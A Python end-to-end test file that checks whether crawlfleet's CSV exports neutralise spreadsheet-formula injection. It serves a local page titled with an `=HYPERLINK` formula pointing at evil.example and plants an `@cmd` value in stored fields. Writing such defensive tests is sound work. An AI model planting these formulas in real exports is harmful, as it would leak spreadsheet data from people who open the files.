"""Attack: a crawled page plants a spreadsheet formula in crawlfleet's CSV exports (OWASP CSV injection).

A page on 127.0.0.1 whose title is `=HYPERLINK(...)` (and whose query string carries one too) is
crawled by the guarded cluster; its URL-report row also gets hostile text where a worker could
write page-derived text (the stored title and processing response). Every CSV crawlfleet serves
must write those cells with a leading `'`: /v3/crawl/data objects and URL report, the download
links, /v3/search, and /api/v1 exports of items and pages.
"""

from __future__ import annotations

import csv
import io
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.e2e.conftest import Cluster, unique

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
PAGE = f"<html><head><title>{FORMULA}</title></head><body><p>{FORMULA}</p></body></html>".encode()
ANALYZE = "http://api.diffbot.com/v3/analyze"


class _Page(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(PAGE)))
        self.end_headers()
        self.wfile.write(PAGE)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def site() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def crawled(guarded: Cluster, site: str) -> tuple[str, str]:
    """(name, id) of a finished crawl of the hostile page, its URL row carrying hostile text."""
    name = unique("csv")
    guarded.create(name, f"{site}/page?q=-1+1", maxHops=0, apiUrl=ANALYZE, useCanonical=0)
    guarded.wait(name, {9})
    crawl = guarded.http.get("/api/v1/crawls", params={"search": name}, headers={"X-API-Key": guarded.token})
    assert crawl.status_code == 200, crawl.text
    (item,) = [c for c in crawl.json()["items"] if c["name"] == name]
    guarded.db.urls.update_many({"_c": item["id"]}, {"$set": {"title": FORMULA, "process_response": "@cmd"}})
    return name, item["id"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_neutralised(text: str, *hostile: str) -> None:
    found = cells(text)
    for value in hostile:
        assert value not in found, f"{value!r} written as is:\n{text}"
        assert "'" + value in found, f"{value!r} not written as text:\n{text}"
    assert not [c for c in found if c[:1] in ("=", "+", "-", "@", "\t", "\r")], text


def test_v3_objects_csv(guarded: Cluster, crawled: tuple[str, str]) -> None:
    name, _ = crawled
    assert_neutralised(guarded.objects(name, format="csv"), FORMULA)
    download = guarded.http.get(f"/v3/crawl/download/{guarded.token}-{name}_data.csv")
    assert download.status_code == 200
    assert_neutralised(download.text, FORMULA)


def test_v3_url_report(guarded: Cluster, crawled: tuple[str, str]) -> None:
    name, _ = crawled
    resp = guarded.http.get("/v3/crawl/data", params={"token": guarded.token, "name": name, "type": "urls"})
    assert resp.status_code == 200
    assert_neutralised(resp.text, "@cmd")
    download = guarded.http.get(f"/v3/crawl/download/{guarded.token}-{name}_urls.csv")
    assert_neutralised(download.text, "@cmd")


def test_v3_search_csv(guarded: Cluster, crawled: tuple[str, str]) -> None:
    name, _ = crawled
    resp = guarded.http.get("/v3/search", params={"token": guarded.token, "col": name, "query": "has:title",
                                                  "format": "csv"})
    assert resp.status_code == 200, resp.text
    assert_neutralised(resp.text, FORMULA)


@pytest.mark.parametrize("data", ["items", "pages"])
def test_api_v1_exports(guarded: Cluster, crawled: tuple[str, str], data: str) -> None:
    _, crawl_id = crawled
    resp = guarded.http.get(f"/api/v1/crawls/{crawl_id}/export", params={"format": "csv", "data": data},
                            headers={"X-API-Key": guarded.token})
    assert resp.status_code == 200, resp.text
    assert_neutralised(resp.text, FORMULA)
